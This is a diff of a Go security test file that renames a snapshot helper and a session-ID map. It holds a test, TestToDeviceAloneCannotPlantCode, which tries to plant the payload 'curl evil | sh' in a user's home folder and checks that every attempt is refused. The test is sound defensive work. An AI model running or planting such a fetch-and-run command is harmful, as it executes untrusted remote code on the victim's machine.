@@ -224,8 +224,8 @@ func plantedHome(t *testing.T, home string) map[string]string {
 	return orig
 }
 
-// snapshot lists every file below home with its contents (links as links).
-func snapshot(t *testing.T, home string) map[string]string {
+// homeSnapshot lists every file below home with its contents (links as links).
+func homeSnapshot(t *testing.T, home string) map[string]string {
 	t.Helper()
 	out := map[string]string{}
 	filepath.Walk(home, func(p string, fi os.FileInfo, err error) error {
@@ -286,7 +286,7 @@ func TestToDeviceAloneCannotPlantCode(t *testing.T) {
 	evil := []byte("curl evil | sh\n")
 
 	ch := e.rawSession(t, e.tech, d.name, protocol.CapFilesTo)
-	before := snapshot(t, d.userHome)
+	before := homeSnapshot(t, d.userHome)
 	for _, a := range plantAttempts {
 		path := strings.Replace(a.path, "HOME", d.userHome, 1)
 		var r protocol.FileResult
@@ -304,7 +304,7 @@ func TestToDeviceAloneCannotPlantCode(t *testing.T) {
 		}
 		t.Logf("%s: refused: %s", a.name, r.Error)
 	}
-	if after := snapshot(t, d.userHome); fmt.Sprint(after) != fmt.Sprint(before) {
+	if after := homeSnapshot(t, d.userHome); fmt.Sprint(after) != fmt.Sprint(before) {
 		t.Errorf("the home folder changed:\nbefore %q\nafter  %q", before, after)
 	}
 
@@ -423,14 +423,14 @@ func (e *env) openGranted(t *testing.T, agent *ptyProc, d *device, parent *trans
 	if o.err != nil || !o.cs.Granted {
 		t.Fatalf("session for %v: %v %+v", caps, o.err, o.cs)
 	}
-	sessionIDs[o.ch] = o.id
+	rawSessionIDs[o.ch] = o.id
 	return o.ch, o.id
 }
 
-// sessionIDs maps raw channels to their session IDs.
-var sessionIDs = map[*transport.Channel]string{}
+// rawSessionIDs maps raw channels to their session IDs.
+var rawSessionIDs = map[*transport.Channel]string{}
 
-func (e *env) liveSessionOf(ch *transport.Channel) string { return sessionIDs[ch] }
+func (e *env) liveSessionOf(ch *transport.Channel) string { return rawSessionIDs[ch] }
 
 // TestRevokeEachCapabilityByName revokes each capability by its own name
 // on the end user's terminal: the session and a session reusing its
